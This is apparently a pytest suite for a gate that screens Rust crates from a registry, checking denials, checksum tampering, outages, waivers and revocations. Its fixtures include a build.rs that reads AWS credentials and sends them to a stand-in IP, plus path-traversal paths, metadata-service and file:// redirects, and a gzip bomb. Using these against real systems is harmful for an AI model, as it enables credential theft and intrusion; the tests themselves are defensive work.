"""The registry protocol as a client sees it: index, archives, validators, outages."""

from __future__ import annotations

import hashlib
import json
import threading
import time
from collections.abc import Callable
from dataclasses import replace
from typing import TYPE_CHECKING

import pytest

from analyzer.errors import RegistryUnreachable
from analyzer.model import IndexEntry
from gate import probe
from gate.model import Outcome
from gate.refusal import MOST

if TYPE_CHECKING:
    from tests.gate.conftest import Live
    from tests.unit.registry.conftest import Servers

STEALS = """use std::io::Write;
fn main() {
    let key = std::fs::read("/home/u/.aws/credentials").unwrap();
    let mut to = std::net::TcpStream::connect("198.51.100.7:443").unwrap();
    to.write_all(&key).unwrap();
}
"""
FETCHES = 'fn main() { let _ = std::net::TcpStream::connect("203.0.113.9:80"); }\n'
Make = Callable[..., "Live"]


def test_the_configuration_is_the_gates_own_whatever_host_is_asked_for(live: Live) -> None:
    answer = live.get("index/config.json", host="evil.example.invalid")
    config = json.loads(answer.body)
    assert config == {"dl": live.url + "crates/{crate}/{version}/{sha256-checksum}.crate"}


def test_an_index_file_comes_as_it_is(live: Live) -> None:
    live.publish("asitis", "1.0.0", v=2, features2={"a": []}, rust_version="1.60", odd=[1])
    answer = live.get("index/as/it/asitis")
    assert answer.body == live.upstream.files["/as/it/asitis"]


def test_an_unchanged_index_file_is_304_and_a_ruling_changes_the_validator(live: Live) -> None:
    sha256 = live.publish("validated", "1.0.0", {"build.rs": STEALS})
    first = live.get("index/va/li/validated")
    tag = first.headers["etag"]
    assert live.get("index/va/li/validated", if_none_match=tag).status == 304
    assert live.get("index/va/li/validated", if_none_match='"other"').status == 200
    assert live.archive("validated", "1.0.0", sha256).status == 403
    again = live.get("index/va/li/validated", if_none_match=tag)
    assert again.status == 200
    assert json.loads(again.body)["yanked"] is True


def test_a_clear_release_is_served_byte_for_byte(live: Live) -> None:
    sha256 = live.publish("plain", "1.0.0")
    answer = live.archive("plain", "1.0.0", sha256)
    assert answer.status == 200
    assert hashlib.sha256(answer.body).hexdigest() == sha256


def test_a_thief_is_denied_in_words_that_cargo_prints_whole(live: Live) -> None:
    live.publish("thief", "1.0.0")
    sha256 = live.publish("thief", "1.0.1", {"build.rs": STEALS}, pubtime="2025-02-01T00:00:00Z")
    answer = live.archive("thief", "1.0.1", sha256)
    assert answer.status == 403
    assert answer.headers["cache-control"] == "no-store"
    assert len(answer.body) <= MOST
    assert answer.text.startswith("cratescope gate: DENIED thief 1.0.1: ")
    assert "(build.rs:" in answer.text
    assert "cargo update thief@1.0.1 --precise 1.0.0" in answer.text
    assert answer.text.endswith(f"{live.url}crate/thief/1.0.1")
    assert [one["yanked"] for one in live.index("thief")] == [False, True]


def test_what_is_new_is_held_and_what_was_there_is_not(live: Live) -> None:
    first = live.publish("fetcher", "1.0.0", {"build.rs": FETCHES})
    held = live.archive("fetcher", "1.0.0", first)
    assert held.status == 403
    assert "HELD" in held.text
    # Beside an established release that did the same, nothing is new.
    live.publish("usual", "1.0.0", {"build.rs": FETCHES})
    second = live.publish("usual", "1.0.1", {"build.rs": FETCHES}, pubtime="2025-02-01T00:00:00Z")
    assert live.archive("usual", "1.0.1", second).status == 200


def test_the_same_code_again_is_no_excuse(live: Live) -> None:
    live.publish("stubborn", "1.0.0")
    first = live.publish("stubborn", "1.0.1", {"build.rs": FETCHES}, pubtime="2025-02-01T00:00:00Z")
    again = live.publish("stubborn", "1.0.2", {"build.rs": FETCHES}, pubtime="2025-02-02T00:00:00Z")
    assert live.archive("stubborn", "1.0.1", first).status == 403
    answer = live.archive("stubborn", "1.0.2", again)
    assert answer.status == 403
    assert "--precise 1.0.0" in answer.text


def test_a_young_name_is_held_in_the_index_and_at_the_door(live: Live) -> None:
    now = time.strftime("%Y-%m-%dT%H:%M:%SZ", time.gmtime())
    sha256 = live.publish("newborn", "1.0.0", pubtime=now)
    assert live.index("newborn")[0]["yanked"] is True
    answer = live.archive("newborn", "1.0.0", sha256)
    assert answer.status == 403
    assert "the first version of this name is 0 days old" in answer.text


def test_the_denied_example_is_denied(live: Live) -> None:
    answer = live.archive(probe.NAME, probe.VERSION, probe.checksum())
    assert answer.status == 403
    assert "this example is denied by every gate" in answer.text
    assert live.index(probe.NAME)[0]["yanked"] is False


@pytest.mark.parametrize(
    "path",
    [
        *(
            "index/SE/RD/serde",
            "index/se/rd/Serde",
            "index/../api/v1/status",
            "index/se%2Frd/serde",
        ),
        *(
            "index//se/rd/serde",
            "crates/plain/1.0.0/x.crate",
            "crates/..%2f..%2fetc/passwd",
            "nothing",
        ),
        *("index/se/rd/serde/", "index/", "crates/", "index/aa/aa/" + "a" * 3000),
    ],
)
def test_odd_paths_are_404_and_never_reach_the_upstream(live: Live, path: str) -> None:
    before = len(live.upstream.asked)
    assert live.get(path).status == 404
    assert len(live.upstream.asked) == before


def test_a_digest_alone_opens_nothing(live: Live) -> None:
    sha256 = live.publish("owner", "1.0.0")
    assert live.archive("owner", "1.0.0", sha256).status == 200
    live.publish("other", "1.0.0", {"src/lib.rs": "// other"})
    for path in (
        f"crates/other/1.0.0/{sha256}.crate",
        f"crates/owner/1.0.1/{sha256}.crate",
        f"crates/Owner/1.0.0/{sha256}.crate",
        f"crates/owner/1.0.0/{'0' * 64}.crate",
    ):
        assert live.get(path).status == 404


def test_an_unknown_crate_is_404_and_trouble_upstream_is_503(live: Live) -> None:
    assert live.get("index/no/su/nosuchcrate").status == 404
    live.upstream.say("/tr/ou/trouble", 500, times=9)
    answer = live.get("index/tr/ou/trouble")
    assert answer.status == 503
    assert answer.headers["retry-after"]
    live.upstream.say("/fo/rb/forbidden", 403, times=9)
    assert live.get("index/fo/rb/forbidden").status == 503


def test_methods_and_bodies_are_bounded(live: Live) -> None:
    assert live.get("index/config.json", "DELETE").status == 405
    assert live.get("index/config.json", "POST", b"{}").status == 405
    assert live.get("api/v1/revoke", "POST", b"x" * 70_000).status == 413
    head = live.get("index/config.json", "HEAD")
    assert (head.status, head.body) == (200, b"")


def test_answers_carry_an_id_and_no_sniffing(live: Live) -> None:
    answer = live.get("healthz")
    assert len(answer.headers["x-request-id"]) == 16
    assert answer.headers["x-content-type-options"] == "nosniff"


# Upstreams that lie or fail -------------------------------------------------------------------


def test_other_bytes_than_first_published_are_denied_for_ever(live: Live) -> None:
    first = live.publish("changed", "1.0.0")
    assert live.archive("changed", "1.0.0", first).status == 200
    live.upstream.files["/ch/an/changed"] = b""
    second = live.publish("changed", "1.0.0", {"src/lib.rs": "pub fn two() {}"})
    assert live.index("changed")[0]["yanked"] is True
    answer = live.archive("changed", "1.0.0", second)
    assert answer.status == 403
    assert "first publication" in answer.text
    kept = live.get(f"crates/changed/1.0.0/{first}.crate")
    assert kept.status == 404 or hashlib.sha256(kept.body).hexdigest() == first


def test_bytes_that_are_not_the_promised_ones_are_never_served(live: Live) -> None:
    sha256 = live.publish("lied", "1.0.0")
    honest = live.upstream.files["/dl/lied/1.0.0/download"]
    live.upstream.files["/dl/lied/1.0.0/download"] = honest + b"x"
    answer = live.get(f"crates/lied/1.0.0/{sha256}.crate")
    assert answer.status == 503
    assert "not those of its index" in answer.text
    assert any(one.action == "checksum-alarm" for one in live.gate.store.audit())
    live.upstream.files["/dl/lied/1.0.0/download"] = honest
    assert live.archive("lied", "1.0.0", sha256).status == 200


def test_an_archive_cut_short_is_asked_for_again(live: Live) -> None:
    sha256 = live.publish("short", "1.0.0")
    live.upstream.say_half("/dl/short/1.0.0/download", b"half")
    assert live.archive("short", "1.0.0", sha256).status == 200


def test_a_redirect_to_another_host_is_not_followed(live: Live) -> None:
    sha256 = live.publish("elsewhere", "1.0.0")
    for host in ("http://192.0.2.1/", "http://169.254.169.254/latest", "file:///etc/passwd"):
        live.upstream.say("/dl/elsewhere/1.0.0/download", 302, Location=host)
        answer = live.get(f"crates/elsewhere/1.0.0/{sha256}.crate")
        assert answer.status == 503, host


def test_a_bomb_is_a_refusal_and_not_the_end(live: Live) -> None:
    import gzip

    bomb = gzip.compress(b"\0" * (600 << 20), 1)
    sha256 = live.upstream.publish("bomb", "1.0.0", bomb, pubtime="2025-01-01T00:00:00Z")
    answer = live.archive("bomb", "1.0.0", sha256)
    assert answer.status == 403
    assert live.get("healthz").status == 200


def test_index_and_archives_go_on_while_the_upstream_is_down(make: Make) -> None:
    one = make()
    sha256 = one.publish("known", "1.0.0")
    assert one.archive("known", "1.0.0", sha256).status == 200
    fresh = one.publish("unread", "1.0.0")
    assert one.get("index/un/re/unread").status == 200
    one.upstream.say("/kn/ow/known", 502, times=99)
    one.upstream.say("/un/re/unread", 502, times=99)
    one.upstream.say("/dl/unread/1.0.0/download", 502, times=99)
    answer = one.get("index/kn/ow/known")
    assert (answer.status, answer.headers["warning"][:3]) == (200, "110")
    assert one.archive("known", "1.0.0", sha256).status == 200
    assert one.get(f"crates/unread/1.0.0/{fresh}.crate").status == 503
    one.upstream.say("/ne/ve/neverseen", 502, times=99)
    assert one.get("index/ne/ve/neverseen").status == 503


def test_closed_means_closed_while_the_upstream_is_down(make: Make) -> None:
    from gate.settings import Outages

    one = make(outages=Outages(is_stale_served=False))
    one.publish("known", "1.0.0")
    assert one.get("index/kn/ow/known").status == 200
    one.upstream.say("/kn/ow/known", 502, times=99)
    assert one.get("index/kn/ow/known").status == 503


def test_internal_names_are_hidden_and_the_upstream_is_not_asked(make: Make) -> None:
    one = make(internal=frozenset({"our-secret-lib"}))
    one.publish("our-secret-lib", "9.9.9")
    assert one.get("index/ou/r-/our-secret-lib").status == 404
    assert not any("our-secret" in path for path in one.upstream.paths())


def test_what_is_revoked_while_its_bytes_come_is_not_served(
    live: Live, monkeypatch: pytest.MonkeyPatch
) -> None:
    from gate.actions import Actions
    from gate.hot import Hot
    from gate.model import Release

    sha256 = live.publish("raced", "1.0.0")
    assert live.archive("raced", "1.0.0", sha256).status == 200
    monkeypatch.setattr(live.gate.desk, "hot", Hot(1))
    upstream = live.gate.desk.parts.upstreams["crates-io"]
    fetch, release = upstream.archive, Release("crates-io", "raced", "1.0.0", sha256)

    def slow(entry: IndexEntry) -> bytes:
        data = fetch(entry)
        Actions(live.gate.desk, live.gate.people).revoke(release, "in the middle", "ann")
        return data

    monkeypatch.setattr(upstream, "archive", slow)
    answer = live.get(f"crates/raced/1.0.0/{sha256}.crate")
    assert answer.status == 403
    assert "in the middle" in answer.text


def test_internal_names_are_hidden_at_the_public_mount_wherever_it_is_named(
    make: Make, servers: Servers
) -> None:
    """The company's own registry has them; in the settings it stands first."""
    from analyzer.config import RegistryAccess
    from gate.settings import Mount

    own = servers.start()
    company = Mount("company", RegistryAccess(own.url), frozenset({"127.0.0.1"}))
    one = make(internal=frozenset({"our-lib"}))
    two = make(internal=frozenset({"our-lib"}), mounts=(company, one.gate.settings.mounts[0]))
    own.publish("our-lib", "1.0.0", b"ours", pubtime="2025-01-01T00:00:00Z")
    one.publish("our-lib", "9.9.9")
    assert two.get("index/ou/r-/our-lib").status == 404
    one.publish("our_lib", "9.9.9")
    assert two.get("index/ou/r_/our_lib").status == 404
    answer = two.get("registries/company/index/ou/r-/our-lib")
    assert answer.status == 200
    assert json.loads(answer.body)["vers"] == "1.0.0"


# Judging --------------------------------------------------------------------------------------


def test_many_clients_of_one_cold_crate_cause_one_download_and_one_judgement(live: Live) -> None:
    sha256 = live.publish("crowd", "1.0.0")
    answers: list[int] = []
    threads = [
        threading.Thread(
            target=lambda: answers.append(live.archive("crowd", "1.0.0", sha256).status)
        )
        for _ in range(200)
    ]
    for one in threads:
        one.start()
    for one in threads:
        one.join()
    assert answers == [200] * 200
    assert live.upstream.paths().count("/dl/crowd/1.0.0/download") == 1
    assert len(live.gate.store.rulings("crates-io", "crowd")) == 1


def test_a_decision_is_kept_before_the_first_byte(
    live: Live, monkeypatch: pytest.MonkeyPatch
) -> None:
    from gate.errors import StoreUnreachable

    sha256 = live.publish("durable", "1.0.0")
    store = live.gate.store

    def down(*_: object) -> None:
        raise StoreUnreachable("the database does not answer")

    monkeypatch.setattr(store, "keep", down)
    assert live.get(f"crates/durable/1.0.0/{sha256}.crate").status == 503
    monkeypatch.undo()
    assert live.archive("durable", "1.0.0", sha256).status == 200


def test_a_release_that_takes_long_is_503_with_progress_and_then_served(make: Make) -> None:
    one = make(wait_s=0.0)
    sha256 = one.publish("slow", "1.0.0")
    answer = one.get(f"crates/slow/1.0.0/{sha256}.crate")
    assert answer.status == 503
    assert "reading slow@1.0.0" in answer.text
    assert one.archive("slow", "1.0.0", sha256).status == 200


def test_workers_that_die_turn_nothing_open(make: Make) -> None:
    one = make(worker_command=("/bin/false",))
    sha256 = one.publish("unjudged", "1.0.0")
    answer = one.get(f"crates/unjudged/1.0.0/{sha256}.crate")
    assert answer.status == 503
    assert one.gate.store.rulings("crates-io", "unjudged") == ()
    assert one.get("readyz").status == 503


def test_scanning_ahead_reads_the_newest_release_once(make: Make) -> None:
    one = make(scans_ahead=True)
    one.publish("ahead", "1.0.0")
    one.publish("ahead", "1.0.1", pubtime="2025-02-01T00:00:00Z")
    for _ in range(5):
        one.get("index/ah/ea/ahead")
    deadline = time.monotonic() + 30
    while time.monotonic() < deadline and not one.gate.store.rulings("crates-io", "ahead"):
        time.sleep(0.1)
    assert [r.release.version for r in one.gate.store.rulings("crates-io", "ahead")] == ["1.0.1"]


def test_a_revoked_release_is_out_at_once_and_who_got_it_is_known(live: Live) -> None:
    from gate.actions import Actions
    from gate.model import Release

    sha256 = live.publish("regretted", "1.0.0")
    assert live.archive("regretted", "1.0.0", sha256).status == 200
    actions = Actions(live.gate.desk, live.gate.people)
    release = Release("crates-io", "regretted", "1.0.0", sha256)
    actions.revoke(release, "late advisory", "ann")
    answer = live.archive("regretted", "1.0.0", sha256)
    assert answer.status == 403
    assert "revoked by ann: late advisory" in answer.text
    wait_for(lambda: len(live.gate.store.who_got("regretted")) == 1)
    assert live.gate.store.who_got("regretted")[0].client == "127.0.0.1"


def test_a_waiver_by_two_people_lets_it_in_until_it_expires(make: Make) -> None:
    from gate.actions import Actions
    from gate.errors import NotPermitted
    from gate.model import Release, WaiverState

    clock = [time.strftime("%Y-%m-%d", time.gmtime())]
    one = make(day=lambda: clock[0])
    sha256 = one.publish("waived", "1.0.0", {"build.rs": FETCHES})
    assert one.archive("waived", "1.0.0", sha256).status == 403
    actions = Actions(one.gate.desk, one.gate.people)
    release = Release("crates-io", "waived", "1.0.0", sha256)
    (row,) = actions.ask_waivers(release, {"reason": "read it, the host is ours"}, "ann")
    assert one.archive("waived", "1.0.0", sha256).status == 403
    with pytest.raises(NotPermitted):
        actions.answer(row.id, WaiverState.APPROVED, "ann")
    actions.answer(row.id, WaiverState.APPROVED, "bob")
    wait_for(lambda: one.archive("waived", "1.0.0", sha256).status == 200)
    assert one.index("waived")[0]["yanked"] is False
    clock[0] = "2099-01-01"
    assert one.archive("waived", "1.0.0", sha256).status == 403


def test_a_waiver_that_comes_while_the_upstream_is_down_counts_later(
    make: Make, monkeypatch: pytest.MonkeyPatch
) -> None:
    from gate.actions import Actions
    from gate.model import Release, WaiverState

    monkeypatch.setattr("gate.clerk._AGAIN_S", 0.5)
    one = make()
    sha256 = one.publish("patient", "1.0.0", {"build.rs": FETCHES})
    assert one.archive("patient", "1.0.0", sha256).status == 403
    actions = Actions(one.gate.desk, one.gate.people)
    release = Release("crates-io", "patient", "1.0.0", sha256)
    (row,) = actions.ask_waivers(release, {"reason": "read it, the host is ours"}, "ann")
    upstream = one.gate.desk.parts.upstreams["crates-io"]

    def down(*_: object, **__: object) -> None:
        raise RegistryUnreachable("down")

    monkeypatch.setattr(upstream, "index", down)
    actions.answer(row.id, WaiverState.APPROVED, "bob")
    time.sleep(1.5)
    assert len(one.gate.store.rulings("crates-io", "patient")) == 1
    monkeypatch.undo()
    one.gate.clerk._again_at = 0
    wait_for(lambda: one.archive("patient", "1.0.0", sha256).status == 200)


def test_other_rules_read_everything_again_and_tell_what_changed(make: Make) -> None:
    one = make()
    sha256 = one.publish("later", "1.0.0", {"build.rs": FETCHES})
    assert one.archive("later", "1.0.0", sha256).status == 403
    release = one.gate.store.latest()[0].release
    made = replace(one.gate.store.latest()[0], outcome=Outcome.SERVE, judge="other rules", id=0)
    # Made just now: by another gate, which may be updated next. Made long ago: by a former one.
    one.gate.desk.keep(made)
    one.gate.clerk._read_again()
    assert len(one.gate.line) == 0
    one.gate.desk.keep(replace(made, at="2026-01-01T00:00:00Z"))
    assert one.archive("later", "1.0.0", sha256).status == 200
    one.gate.clerk._again_at = 0
    wait_for(lambda: one.archive("later", "1.0.0", sha256).status == 403)
    last = one.gate.store.rulings(release.mount, release.name)[-1]
    assert last.cause == "rescan"
    wait_for(lambda: any(r.action == "late-verdict" for r in one.gate.store.audit()))


def wait_for(is_so: Callable[[], bool], seconds: float = 30.0) -> None:
    deadline = time.monotonic() + seconds
    while not is_so():
        assert time.monotonic() < deadline
        time.sleep(0.1)
